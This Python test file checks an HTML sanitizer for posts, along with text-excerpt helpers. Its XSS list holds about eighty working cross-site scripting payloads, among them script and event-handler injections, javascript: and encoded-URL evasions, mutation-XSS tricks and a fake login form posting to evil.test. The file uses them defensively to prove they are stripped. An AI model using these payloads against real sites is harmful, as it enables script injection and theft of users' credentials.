from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from node.errors import TooLarge
from node.text.clean import LONGEST, clean_html, excerpt, plain_name, plain_text, shortened, text_lines

ALLOWED = {
    "p": {"lang", "dir"},
    "a": {"href", "rel", "lang", "dir"},
    "ol": {"start", "lang", "dir"},
} | dict.fromkeys(
    "br em strong del code pre blockquote ul li h3 h4 h5 h6 hr span".split(),  # noqa: SIM905 -- reads as the rule
    frozenset({"lang", "dir"}),
)
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=feed:javascript:alert(1)>x</a>",
    "<a href='https:javascript:alert(1)'>x</a>",
    "<a href='https://x.test/\" onmouseover=alert(1) x=\"'>x</a>",
    "<a href=https://x.test/ onclick=alert(1) target=_top ping=https://evil.test>x</a>",
    "<p style='position:fixed;background:url(javascript:alert(1))'>x</p>",
    "<p id=csrf name=csrf class=button>x</p>",
    "<a name=x id=y href=https://x.test>x</a>",
    "<form action=https://evil.test><input name=password autofocus onfocus=alert(1)><button>Log in</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<p/onclick=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "<p title='<!--' onclick=alert(1)>--></p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)>?>",
    "</p <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<p lang='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p dir='\"><img src=x onerror=alert(1)>'>x</p>",
    "<ol start='1\" onclick=alert(1) x=\"'><li>x</ol>",
    "<img alt='</a><img src=x onerror=alert(1)>' src=https://x.test>",
    "<img src='https://x.test/\"><script>alert(1)</script>'>",
    "<a href=https://evil.test>bank.test<img alt='<script>alert(1)</script>'></a>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><form><td><script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "<p>\ud800<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
]


class Inspector(HTMLParser):
    """Fails on any element or attribute that a post may not hold."""

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name)
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:")), value
        if tag == "a":
            assert dict(attrs)["rel"] == "nofollow ugc noopener noreferrer"

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def inspect(cleaned):
    inspector = Inspector()
    inspector.feed(cleaned)
    inspector.close()


@pytest.mark.parametrize("payload", XSS)
def test_no_payload_survives(payload):
    for source in (payload, f"<p>before {payload} after</p>", f"<a href=https://x.test>{payload}"):
        cleaned = clean_html(source)
        inspect(cleaned)
        assert clean_html(cleaned) == cleaned


FRAGMENTS = [
    *(
        "<p>",
        "</p>",
        "<div>",
        "</div>",
        "<em lang=fr>",
        "</em>",
        "<b>",
        "</b>",
        "<h1>",
        "</h1>",
        "<h3>",
        "</h3>",
    ),
    *("<a href=https://evil.test/>", "<a href=javascript:x>", "</a>", "<img src=https://i.test/a alt='q r'>"),
    *(
        "<ul>",
        "</ul>",
        "<ol start=3>",
        "</ol>",
        "<li>",
        "</li>",
        "<pre>",
        "</pre>",
        "<code>",
        "</code>",
        "<br>",
    ),
    *(
        "<blockquote>",
        "</blockquote>",
        "<hr>",
        "<table>",
        "<tr>",
        "<td>",
        "</td>",
        "</table>",
        "<span dir=rtl>",
    ),
    *(
        "<script>",
        "</script>",
        "<style>",
        "</style>",
        "<svg>",
        "<math>",
        "<template>",
        "<plaintext>",
        "<select>",
    ),
    *("<!--", "-->", "<", "</", "&", '"', "'", "\n", "\r\n", " ", "\xa0", "\x00", "\ufeff", "x", "bank.test"),
    *("&lt;", "&amp;lt;", "&#13;", "&#10;", "&nbsp;", "&notit;", "\u202e", "<body>", "</br>", "<nobr>"),
]


@given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=5), max_size=20).map("".join))
@settings(max_examples=400, deadline=None)
def test_cleaning_again_changes_nothing(source):
    cleaned = clean_html(source)
    inspect(cleaned)
    assert clean_html(cleaned) == cleaned


def test_what_a_post_may_hold_is_kept():
    kept = (
        '<p dir="rtl" lang="ar">a<br>b <em>c</em> <strong>d</strong> <del>e</del> <code>f</code></p>'
        "<pre><code>g\n</code></pre><blockquote><p>h</p></blockquote><ul><li>i</li></ul><ol><li>j</li></ol>"
        "<h3>k</h3><h4>l</h4><h5>m</h5><h6>n</h6><hr>"
    )
    assert clean_html(kept).replace('dir="rtl" lang="ar"', 'lang="ar" dir="rtl"') == kept.replace(
        'dir="rtl" lang="ar"', 'lang="ar" dir="rtl"'
    )


def test_a_link_vouches_for_nothing_and_shows_where_it_leads():
    assert clean_html("<a href=https://evil.test/x>bank.test</a>") == (
        '<a href="https://evil.test/x" rel="nofollow ugc noopener noreferrer">bank.test [evil.test]</a>'
    )


def test_a_mention_as_mastodon_writes_it_stays_readable():
    mention = '<span class="h-card"><a href="https://a.example/u/ada" class="u-url mention">@<span>ada</span></a></span>'
    assert plain_text(clean_html(mention)) == "@ada"


def test_markup_beyond_measure_is_refused():
    clean_html("x" * LONGEST)
    with pytest.raises(TooLarge):
        clean_html("x" * (LONGEST + 1))


def test_misnested_markup_is_not_multiplied():
    hostile = "<p>" + "".join(f"<em lang={i}>" for i in range(2000)) + "</p><p>x" * 2000
    assert len(clean_html(hostile)) < 2 * len(hostile)


def test_plain_text_is_what_a_reader_sees():
    source = (
        "<h1>T&amp;C</h1><p>a<br>b  <b>c</b>d</p><script>no</script><ul><li>e<li>f</ul><td>g<td>h &amp;lt;"
    )
    assert plain_text(source) == "T&C a b cd e f g h &lt;"
    assert text_lines("<p>\n</p><p>a</p>\n<p> b\nc </p>") == ["a", "b c"]


def test_a_name_is_one_visible_line():
    assert plain_name("  a\u202eb\u200b\n\t c\x00\u2066\ud800 <i> ") == "ab c <i>"
    assert plain_name("Zoë 蜂 🐝") == "Zoë 蜂 🐝"


def test_an_excerpt_ends_between_words():
    assert excerpt("<p>aaaa bbbb</p><p>cccc</p>", 14) == "aaaa bbbb cccc"
    assert excerpt("<p>aaaa bbbb</p><p>cccc</p>", 13) == "aaaa bbbb…"
    assert excerpt("a" * 400) == "a" * 299 + "…"
    assert shortened("one, two", 6) == "one…"


@given(st.text(), st.integers(min_value=2, max_value=50))
def test_an_excerpt_is_never_longer_than_asked(text, limit):
    assert len(shortened(text, limit)) <= limit
